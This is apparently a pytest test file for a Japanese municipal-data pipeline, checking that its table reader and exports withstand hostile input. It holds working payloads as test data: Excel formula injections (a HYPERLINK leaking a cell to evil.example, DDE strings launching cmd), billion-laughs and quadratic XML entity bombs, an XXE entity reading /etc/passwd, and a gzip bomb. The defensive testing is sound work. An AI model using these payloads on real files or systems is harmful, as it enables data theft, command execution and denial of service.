"""Hostile input and exports that are safe to open (issue #13).

Each attack is built here from scratch: formula cells in the Excel CSVs, XML entity bombs
and compressed bombs as tables, megabyte cells, a Dask scheduler address that asks for TLS,
and random tables and random text thrown at the reader and the rule scanner.
"""

from __future__ import annotations

import csv
import gzip
import io
import re
import time
import zipfile
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from hypothesis_profiles import SLOW_EXAMPLES
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from pipeline.analysis.panel import ID_COLUMNS, PANEL_KEYS
from pipeline.core.config import COMPARE_TABLES, PEER_TABLES, StagePaths, compare_dir, load_params
from pipeline.ginza import dask_cluster
from pipeline.ginza.dask_cluster import DaskBackend, security_of
from pipeline.ginza.model import NlpSettings
from pipeline.outputs.export import TABLES, WORKBOOK, combined, export_all, workbook_bytes
from pipeline.rules.quantities import Tokens, find_quantities
from pipeline.tables import files, schema
from pipeline.tables.reader import DEFAULT_LIMITS, DivisionSplit, ParseResult, TableError, TableLimits, parse_table
from pipeline.text.textnorm import normalize

PARAMS = load_params()["table"]
HEADER = ["通し番号", "事業番号", "事務事業名", "課名", "事業の目的", "事業の概要", "成果"]
ROW = ["1", "7", "広報事業", "市長公室広報戦略課", "市の魅力を伝える。", "動画を配信した。",
       "登録者数が2,230人となった。"]


def parse(path: Path, **kwargs: Any) -> ParseResult:
    """parse_table with the project's params, as the parse stage calls it."""
    return parse_table(path, 2023, PARAMS["columns"], PARAMS["required"], DivisionSplit.from_params(PARAMS),
                       long_layout=PARAMS["long_layout"], **kwargs)


def write_tsv(path: Path, rows: list[list[str]]) -> Path:
    """A TSV as a spreadsheet saves it (cells quoted only where they must be)."""
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, delimiter="\t", lineterminator="\n").writerows(rows)
    return path


def assert_accounted(result: ParseResult) -> None:
    """Every record is blank, a header or a data row; every data row is parsed, quarantined or
    skipped; the quarantine and project tables hold as many rows as the summary says."""
    s = result.summary
    assert s["records"] == s["blank"] + s["headers"] + s["data_rows"]
    assert s["data_rows"] == s["parsed"] + s["quarantined"] + s["skipped_year"]
    assert len(result.quarantine) == s["quarantined"]
    assert len(result.projects) == s["projects"] <= s["parsed"]


# 1. Formula cells in the CSVs for Excel ---------------------------------------------------

#: Text that Excel runs as a formula (a DDE command, a link that leaks a cell, arithmetic).
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")", "=cmd|' /C calc'!A0", "+1+1",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "--07-27"]
#: Text that only contains such characters later, or a look-alike: left as it is.
HARMLESS = ["売上=100", "1+1", "－3", "＝1+1", " =1+1", ""]


def _value(kind: str, i: int) -> str:
    """A cell of a column of ``kind``: hostile text, or a negative number a formula check must skip."""
    texts = FORMULAS + HARMLESS
    return {"integer": "-3", "number": "-12.5", "boolean": "false"}.get(kind, texts[i % len(texts)])


def _stage_outputs(root: Path) -> dict[str, Path]:
    """Where the export stage reads each table of one fiscal year (2023) and the comparison."""
    paths = StagePaths.for_dataset("2023", root)
    return {**{name: paths.output(name) for name in TABLES}, "projects": paths.projects,
            **{name: compare_dir(root) / f"{name}.csv" for name in (*COMPARE_TABLES, *PEER_TABLES)}}


def test_excel_csvs_neutralise_formulas_and_nothing_else_changes(tmp_path: Path) -> None:
    for name, path in _stage_outputs(tmp_path).items():  # every text cell hostile or a look-alike
        columns = [re.sub(r"\{\w+\}", "2023", c.name) for c in schema.table(name).columns  # value_2023
                   if name not in ID_COLUMNS or c.name not in PANEL_KEYS]  # the export adds these
        rows = [{c: _value(schema.table(name).column(c).type, i + j) for j, c in enumerate(columns)}
                for i in range(len(FORMULAS + HARMLESS))]
        files.write_csv(pd.DataFrame(rows, columns=columns), path)
    params: dict[str, Any] = {"datasets": {"2023": {}}}
    export_all(params, tmp_path, tmp_path / "exports")
    workbook = load_workbook(tmp_path / "exports" / WORKBOOK)
    for name, source in combined(params, tmp_path).items():  # what the export stage writes
        exported = files.read_csv(tmp_path / "exports" / f"{name}.csv")
        parquet = pd.read_parquet(tmp_path / "exports" / f"{name}.parquet")
        spec = schema.table(name)
        text = [c for c in source.columns if spec.column(c).type == "text"]
        for column in source.columns:
            for raw, out in zip(source[column], exported[column], strict=True):
                if column in text and raw in FORMULAS:
                    assert out == "'" + raw, (name, column)
                else:
                    assert out == raw, (name, column)  # numbers stay numbers: -3, -12.5
        for column in text:
            assert list(parquet[column].fillna("")) == list(source[column]), (name, column)
        if spec.sheet not in workbook.sheetnames:
            continue  # top_changes: only the source of `dvc plots`
        ws = workbook[spec.sheet]
        header = [c.value for c in ws[1]]
        for column in text:
            cells = [row[header.index(spec.column(column).label)] for row in ws.iter_rows(min_row=2)]
            for raw, cell in zip(source[column], cells, strict=True):
                if raw:  # XML reads a carriage return back as a line feed
                    assert (cell.value, cell.data_type) == (raw.replace("\r", "\n"), "s"), (name, column)


def test_formula_safe_leaves_numbers_and_non_text_alone(tmp_path: Path) -> None:
    df = pd.DataFrame({"text": ["=1+1", "-3", "@x", None], "value": ["-3", "+5", "=1", "-1.5"],
                       "count": [-3, 4, -5, 6]})
    safe = files.formula_safe(df, numeric_columns=["value"])
    assert list(safe["text"][:3]) == ["'=1+1", "'-3", "'@x"] and pd.isna(safe["text"][3])
    assert list(safe["value"]) == ["-3", "+5", "=1", "-1.5"]
    assert list(safe["count"]) == [-3, 4, -5, 6]
    assert list(df["text"][:3]) == ["=1+1", "-3", "@x"]  # the caller's frame is untouched
    files.write_csv(df, tmp_path / "machine.csv")  # the pipeline's own CSVs keep the text
    assert files.read_csv(tmp_path / "machine.csv")["text"][0] == "=1+1"
    files.write_csv(df, tmp_path / "excel.csv", excel=True, numeric_columns=["value"])
    assert (tmp_path / "excel.csv").read_bytes().startswith(b"\xef\xbb\xbftext,value,count\n'=1+1,-3,-3\n")


def test_a_noncharacter_in_a_cell_does_not_break_the_workbook() -> None:
    """U+FFFE/U+FFFF decode from UTF-8 and pass through every stage, but XML cannot hold them:
    one of them in any cell left the whole workbook unreadable."""
    qa = pd.DataFrame([{"fiscal_year": "2023", "project_id": "7", "field": "outcome",
                        "check": "breakdown_sum", "metric_id": "m", "message": "合\ufffe計\uffff\x0b"}])
    ws = load_workbook(io.BytesIO(workbook_bytes({"qa": qa})))[schema.table("qa").sheet]
    column = [c.value for c in ws[1]].index(schema.table("qa").column("message").label)
    assert ws[2][column].value == "合計"


def test_a_carriage_return_in_a_cell_does_not_split_the_row(tmp_path: Path) -> None:
    """A quoted table cell may hold a bare \\r (old Mac line ends): parse keeps it, and the
    projects.csv it writes must read back as the same rows, not a row cut in two."""
    table = tmp_path / "t.tsv"
    lines = ["\t".join(HEADER), "\t".join(ROW[:6]) + "\t\"成果\r2行目\"", "\t".join(["2", "8", *ROW[2:]])]
    table.write_text("\n".join(lines) + "\n", encoding="utf-8", newline="")
    projects = parse(table).projects
    assert projects["outcome"][0] == "成果\r2行目"
    files.write_csv(projects, tmp_path / "projects.csv")
    back = files.read_csv(tmp_path / "projects.csv")
    assert list(back["project_id"]) == ["7", "8"] and back["outcome"][0] == "成果\r2行目"
    files.write_csv(projects, tmp_path / "excel.csv", excel=True)
    assert list(files.read_csv(tmp_path / "excel.csv")["outcome"]) == ["成果\r2行目", ROW[6]]


# 2. XML bombs in XLSX input ----------------------------------------------------------------

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
#: Ten levels of ten references each: 10^9 copies of "lol" if a parser expanded them.
_LAUGHS = "<!ENTITY lol0 \"lol\">" + "".join(
    f"<!ENTITY lol{i} \"{('&lol%d;' % (i - 1)) * 10}\">" for i in range(1, 10))


_SHARED_STRINGS = ("<Override PartName=\"/xl/sharedStrings.xml\" ContentType=\"application/"
                   "vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml\"/></Types>")


def _workbook_with(path: Path, parts: dict[str, str]) -> Path:
    """A valid workbook (header and one row) with XML parts replaced or added; an added
    xl/sharedStrings.xml is registered, so that openpyxl reads it."""
    wb = Workbook()
    wb.active.append(HEADER)
    wb.active.append(ROW)
    buffer = io.BytesIO()
    wb.save(buffer)
    with zipfile.ZipFile(buffer) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        contents = {info.filename: src.read(info) for info in src.infolist()}
        if "xl/sharedStrings.xml" in parts:
            types = contents["[Content_Types].xml"].decode()
            contents["[Content_Types].xml"] = types.replace("</Types>", _SHARED_STRINGS).encode()
        contents.update({name: xml.encode() for name, xml in parts.items()})
        for name, data in contents.items():
            out.writestr(name, data)
    return path


_SHEET_WITH = ("<?xml version=\"1.0\"?><!DOCTYPE worksheet [{dtd}]><worksheet xmlns=\"" + _MAIN + "\">"
               "<sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{ref}</t></is></c></row>"
               "</sheetData></worksheet>")
_SHARED_SHEET = ("<worksheet xmlns=\"" + _MAIN + "\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v>"
                 "</c></row></sheetData></worksheet>")
_STRINGS_WITH = ("<?xml version=\"1.0\"?><!DOCTYPE sst [{dtd}]><sst xmlns=\"" + _MAIN + "\" count=\"1\" "
                 "uniqueCount=\"1\"><si><t>{ref}</t></si></sst>")
_SHEET = "xl/worksheets/sheet1.xml"


@pytest.mark.parametrize("parts", [
    {_SHEET: _SHEET_WITH.format(dtd=_LAUGHS, ref="&lol9;")},
    {_SHEET: _SHARED_SHEET, "xl/sharedStrings.xml": _STRINGS_WITH.format(dtd=_LAUGHS, ref="&lol9;")},
    # quadratic blow-up: one big entity, referenced many times
    {_SHEET: _SHEET_WITH.format(dtd=f"<!ENTITY a \"{'a' * 100_000}\">", ref="&a;" * 100_000)},
    # XXE: an external entity would read a local file into a cell
    {_SHEET: _SHEET_WITH.format(dtd="<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", ref="&xxe;")},
], ids=["billion-laughs-sheet", "billion-laughs-shared-strings", "quadratic-blowup", "xxe"])
def test_xlsx_with_entities_is_refused_quickly(tmp_path: Path, parts: dict[str, str]) -> None:
    path = _workbook_with(tmp_path / "bomb.xlsx", parts)
    started = time.monotonic()
    with pytest.raises(TableError) as error:
        parse(path)
    assert time.monotonic() - started < 10  # does not hang; not a speed target
    message = str(error.value)
    assert message.startswith(f"{path}: refused EntitiesForbidden")
    assert "billion laughs" in message


def test_xlsx_with_broken_xml_is_a_table_error(tmp_path: Path) -> None:
    path = _workbook_with(tmp_path / "broken.xlsx", {_SHEET: "<worksheet><row>"})
    with pytest.raises(TableError, match=r"broken\.xlsx: not a readable \.xlsx workbook"):
        parse(path)


# 3. Size limits ----------------------------------------------------------------------------

def test_the_limits_come_from_params_and_must_be_positive() -> None:
    assert TableLimits.from_params(PARAMS) == DEFAULT_LIMITS == TableLimits(1_000_000, 256 * 1024 ** 2)
    assert TableLimits.from_params({"max_cell_chars": 5}) == TableLimits(5, DEFAULT_LIMITS.max_input_bytes)
    for bad in (0, -1, "10", True, 1.5):
        with pytest.raises(ValueError, match="table.max_cell_chars in params.yaml must be a positive"):
            TableLimits(max_cell_chars=bad)  # type: ignore[arg-type]


def test_a_cell_over_the_limit_is_quarantined_with_file_line_and_column(tmp_path: Path) -> None:
    limit = DEFAULT_LIMITS.max_cell_chars
    at_limit = ["2", "9", *ROW[2:6], "成" * limit]
    over = ["3", "8", *ROW[2:6], "成" * (limit + 1)]
    path = write_tsv(tmp_path / "big.tsv", [HEADER, ROW, at_limit, over])
    result = parse(path)
    assert_accounted(result)
    assert list(result.projects["project_id"]) == ["7", "9"]
    assert len(result.projects["outcome"][1]) == limit
    [q] = result.quarantine.to_dict("records")
    assert (q["source_file"], q["line"], q["column"]) == (str(path), 4, 7)
    assert q["reason"] == ("column 7 outcome (成果): cell of 1,000,001 characters; expected at most "
                           "1,000,000 (table.max_cell_chars in params.yaml)")
    assert len(q["raw"]) == limit + 1 and q["raw"].endswith("…")


def test_a_smaller_limit_quarantines_any_column_and_counts_add_up(tmp_path: Path) -> None:
    rows = [HEADER, ROW, ["2", "8", "x" * 41, *ROW[3:]], ["3", "9", *ROW[2:], "extra" * 9]]
    result = parse(write_tsv(tmp_path / "t.tsv", rows), limits=TableLimits(max_cell_chars=40))
    assert_accounted(result)
    assert list(result.projects["project_id"]) == ["7"]
    reasons = list(result.quarantine["reason"])
    assert reasons[0].startswith("column 3 project_name (事務事業名): cell of 41 characters")
    assert reasons[1].startswith("column 8: cell of 45 characters")  # a column with no header
    assert list(result.quarantine["column"]) == [3, 8]


def test_a_gzip_bomb_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    body = "\t".join(HEADER) + "\n" + "\t".join(ROW) + "\n" + " " * 2_000_000  # a blank last line
    path = tmp_path / "bomb.tsv.gz"
    path.write_bytes(gzip.compress(body.encode(), compresslevel=9))
    assert path.stat().st_size < 10_000
    with pytest.raises(TableError, match=r"bomb\.tsv\.gz: unpacks to more than 1,000,000 bytes, refused"):
        parse(path, limits=TableLimits(max_input_bytes=1_000_000))
    assert parse(path).summary["projects"] == 1  # within the default limit it is read


def test_a_file_over_the_size_limit_is_refused_unread(tmp_path: Path) -> None:
    path = write_tsv(tmp_path / "t.tsv", [HEADER, ROW])
    size = path.stat().st_size
    with pytest.raises(TableError, match=rf"t\.tsv: {size:,} bytes; expected at most 100 "
                                         r"\(table\.max_input_bytes"):
        parse(path, limits=TableLimits(max_input_bytes=100))


def test_an_xlsx_that_unpacks_beyond_the_limit_is_refused(tmp_path: Path) -> None:
    wb = Workbook()
    wb.active.append(HEADER)
    wb.active.append(["x" * 30_000] * 7)  # compresses to almost nothing
    path = tmp_path / "big.xlsx"
    wb.save(path)
    assert path.stat().st_size < 20_000
    with pytest.raises(TableError, match=r"big\.xlsx: the workbook unpacks to [\d,]+ bytes, refused"):
        parse(path, limits=TableLimits(max_input_bytes=100_000))


# 4. Dask: TLS or a trusted network ---------------------------------------------------------

TLS = {"backend": "dask", "dask_scheduler": "tls://scheduler:8786"}


@pytest.fixture
def pem_files(tmp_path: Path) -> dict[str, str]:
    """Three files standing in for the CA, client certificate and key (nothing reads them)."""
    found = {}
    for key, name in [("dask_tls_ca_file", "ca.pem"), ("dask_tls_cert_file", "client.pem"),
                      ("dask_tls_key_file", "client.key")]:
        (tmp_path / name).write_text("PEM", encoding="utf-8")
        found[key] = str(tmp_path / name)
    return found


def test_the_projects_nlp_params_load() -> None:
    settings = NlpSettings.from_params(load_params()["nlp"])
    assert settings.dask_tls_ca_file is settings.dask_tls_cert_file is settings.dask_tls_key_file is None
    assert security_of(settings) is None


def test_a_tls_scheduler_without_certificates_is_refused(pem_files: dict[str, str]) -> None:
    with pytest.raises(ValueError, match="tls://scheduler:8786 is a tls:// address but lacks "
                                         "nlp.dask_tls_ca_file, nlp.dask_tls_cert_file, nlp.dask_tls_key_file"):
        NlpSettings.from_params(TLS)
    partial = {**TLS, **pem_files, "dask_tls_key_file": None}
    with pytest.raises(ValueError, match=r"lacks nlp\.dask_tls_key_file;"):
        NlpSettings.from_params(partial)


@pytest.mark.parametrize("scheduler", ["tcp://scheduler:8786", None])
def test_certificates_without_a_tls_address_are_refused(pem_files: dict[str, str],
                                                        scheduler: str | None) -> None:
    with pytest.raises(ValueError, match="certificates are set, but nlp.dask_scheduler is"):
        NlpSettings.from_params({**TLS, **pem_files, "dask_scheduler": scheduler})


def test_security_of_a_tls_scheduler_carries_the_certificates(pem_files: dict[str, str]) -> None:
    security = security_of(NlpSettings.from_params({**TLS, **pem_files}))
    assert security is not None
    assert (security.tls_ca_file, security.tls_client_cert, security.tls_client_key) == (
        pem_files["dask_tls_ca_file"], pem_files["dask_tls_cert_file"], pem_files["dask_tls_key_file"])
    assert security.require_encryption is True
    assert security_of(NlpSettings.from_params({"dask_scheduler": "tcp://scheduler:8786"})) is None


def test_security_of_names_a_missing_certificate(pem_files: dict[str, str]) -> None:
    Path(pem_files["dask_tls_key_file"]).unlink()
    with pytest.raises(FileNotFoundError, match=r"no such file .*client\.key"):
        security_of(NlpSettings.from_params({**TLS, **pem_files}))


class _Connected(Exception):
    """Raised by the stand-in Client: the backend got as far as connecting."""


@pytest.fixture
def client_calls(monkeypatch: pytest.MonkeyPatch) -> list[tuple[tuple[Any, ...], dict[str, Any]]]:
    """The arguments of every Client the backend creates; the Client itself never connects."""
    calls: list[tuple[tuple[Any, ...], dict[str, Any]]] = []

    def fake_client(*args: Any, **kwargs: Any) -> None:
        calls.append((args, kwargs))
        raise _Connected

    monkeypatch.setattr(dask_cluster, "Client", fake_client)
    return calls


def test_the_backend_connects_to_a_tls_scheduler_with_its_security(
        pem_files: dict[str, str], client_calls: list[tuple[tuple[Any, ...], dict[str, Any]]]) -> None:
    with pytest.raises(_Connected):
        DaskBackend(NlpSettings(**{**TLS, **pem_files}), 1)
    [(args, kwargs)] = client_calls
    assert args == ("tls://scheduler:8786",)
    assert kwargs["security"].tls_client_key == pem_files["dask_tls_key_file"]
    assert kwargs["security"].require_encryption is True


def test_the_backend_stops_before_connecting_to_tls_without_certificates(
        client_calls: list[tuple[tuple[Any, ...], dict[str, Any]]]) -> None:
    with pytest.raises(ValueError, match="is a tls:// address but lacks"):
        DaskBackend(NlpSettings(**TLS), 1)
    assert client_calls == []


# 5. Random tables and random text ----------------------------------------------------------

#: Characters a hostile or broken cell may hold: controls, bidi overrides, zero-width and
#: invisible marks, BOMs, quotes and delimiters, lone surrogates, and everything else.
_NASTY = st.sampled_from(["\x00", "\x0b", "\x1b", "\x7f", "\u202e", "\u2066", "\u200b", "\u200d",
                          "\ufeff", "\ufffe", "\ud800", "\udfff", "\udc80", "\r", "\n", "\r\n", "\t",
                          "\"", "'", ",", ";", "|", "\u3000", "\u00a0", "\U0001f600", "𠮷", "ｱ"])
_CHARS = st.one_of(st.characters(), _NASTY)
_CELL = st.lists(_CHARS, max_size=12).map("".join)
_ALIASES = [str(a) for table in (PARAMS["columns"], PARAMS["long_layout"]["columns"])
            for names in table.values() for a in names]  # (YAML reads a bare No as False)
_HEADER_CELL = st.one_of(st.sampled_from(_ALIASES), _CELL)
_LONG_HEADER = ["year", "projectId", "projectName", "ministry", "field", "text"]
_HEADERS = st.one_of(st.sampled_from([HEADER, _LONG_HEADER]), st.lists(_HEADER_CELL, max_size=9))
_WORD = st.one_of(_CELL, st.sampled_from(["2023", "2024", "7", "007", "purpose", "currentIssues", "成果",
                                          "", " ", "市長公室秘書課", "=1+1", "\"quoted\""]))
#: Mostly text that decodes; lone surrogates as UTF-8 bytes (surrogatepass) make it undecodable.
_ENCODINGS = st.sampled_from([("utf-8", "replace")] * 3 + [
    ("utf-8", "surrogatepass"), ("utf-8-sig", "replace"), ("cp932", "replace"), ("utf-16", "surrogatepass")])


@st.composite
def _tables(draw: st.DrawFn) -> tuple[str, bytes]:
    """(file name, bytes) of a random table: TSV, CSV, gzipped or XLSX, any dialect and encoding."""
    header = draw(_HEADERS)
    widths = draw(st.lists(st.just(len(header)) | st.integers(0, 9), max_size=8))  # mostly header-wide
    rows = [header, *(draw(st.lists(_WORD, min_size=n, max_size=n)) for n in widths)]
    if draw(st.integers(0, 4)) == 0 and len(rows) > 1:  # now and then one cell of 1 MB
        row = rows[draw(st.integers(1, len(rows) - 1))]
        big = draw(st.sampled_from(["9", "事", "\u202e", "\"", "\t"])) * 1_000_001
        if row:
            row[draw(st.integers(0, len(row) - 1))] = big
        else:
            row.append(big)
    kind = draw(st.sampled_from(["tsv", "csv", "tsv.gz", "xlsx"]))
    if kind == "xlsx":
        wb = Workbook()
        for row in rows:  # what XML can hold: no controls, lone surrogates, U+FFFE or U+FFFF
            wb.active.append([ILLEGAL_CHARACTERS_RE.sub("", c).encode("utf-8", "replace").decode()
                              .replace("\ufffe", "").replace("\uffff", "") for c in row])
        buffer = io.BytesIO()
        wb.save(buffer)
        return "t.xlsx", buffer.getvalue()
    quoting = draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL, csv.QUOTE_NONE, -1]))
    natural = "," if kind == "csv" else "\t"
    delimiter = draw(st.sampled_from([natural] * 3 + [";", "|", "\t" if kind == "csv" else ","]))
    end = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    if quoting == -1:  # no quoting at all: cells joined as they are, stray quotes and all
        text = end.join(delimiter.join(row) for row in rows)
    else:
        out = io.StringIO()  # (csv cannot write a lone empty cell unquoted: an empty line then)
        csv.writer(out, delimiter=delimiter, quotechar=draw(st.sampled_from(["\"", "'"])),
                   quoting=quoting, escapechar="\\", lineterminator=end).writerows(
            [] if quoting == csv.QUOTE_NONE and row == [""] else row for row in rows)
        text = out.getvalue()
    encoding, errors = draw(_ENCODINGS)
    data = text.encode(encoding, errors)
    if kind == "tsv.gz":
        data = gzip.compress(data, compresslevel=1)
    return f"t.{kind}", data


@settings(max_examples=SLOW_EXAMPLES)
@given(table=_tables(), limit=st.sampled_from([20, DEFAULT_LIMITS.max_cell_chars]))
def test_random_tables_are_read_or_refused_and_every_row_is_accounted(
        tmp_path_factory: pytest.TempPathFactory, table: tuple[str, bytes], limit: int) -> None:
    name, data = table
    path = tmp_path_factory.mktemp("fuzz") / name
    path.write_bytes(data)
    try:
        result = parse(path, limits=TableLimits(max_cell_chars=limit))
    except TableError as exc:
        assert str(exc).startswith(str(path))
        return
    assert_accounted(result)
    for column in ("project_id", "project_name", "bureau", "division", "purpose", "overview", "outcome"):
        assert result.projects[column].map(len).le(limit).all()
    q = result.quarantine
    assert (q["source_file"] == str(path)).all() and (q["line"] >= 1).all() and (q["column"] >= 1).all()
    assert q["reason"].map(bool).all() and q["raw"].map(len).le(limit + 1).all()


_SCANNER_TEXT = st.lists(st.one_of(
    st.sampled_from(list("0123456789０１２３４５６７８９〇一二三四五六七八九十百千万億兆")),
    st.sampled_from(list("()（）[]［］「」【】〔〕<>《》")),
    st.sampled_from(list(",，.．・、。/／:：~〜～-－‐ー+＋ \u3000\n")),
    st.sampled_from(["人", "件", "回", "円", "千円", "万円", "%", "％", "割", "分", "厘", "倍", "個", "台",
                     "m", "km", "㎡", "t", "年", "年度", "か月", "月", "日", "時間", "歳", "約", "以上", "未満",
                     "延べ", "うち", "計", "合計", "前年比", "昨年度比", "増", "減", "令和", "R5", "第", "号"]),
    _CHARS), max_size=300).map("".join)


@settings(max_examples=SLOW_EXAMPLES)
@given(text=_SCANNER_TEXT, data=st.data())
def test_the_rule_scanner_never_fails_on_random_text(text: str, data: st.DataObject) -> None:
    """Digits, brackets, separators, kanji numerals and units in any order, with any word
    boundaries a parser could give: the scanner finds what it finds and never raises."""
    norm = normalize(text)
    size = len(norm.text)
    bounds = st.frozensets(st.integers(0, size), max_size=size + 1)
    tokens = Tokens(data.draw(bounds), data.draw(bounds), data.draw(bounds))
    for q in find_quantities(norm.text, tokens):
        assert 0 <= q.start < q.end <= size
        start, end = norm.span_to_original(q.start, q.end)
        assert 0 <= start <= end <= len(text)
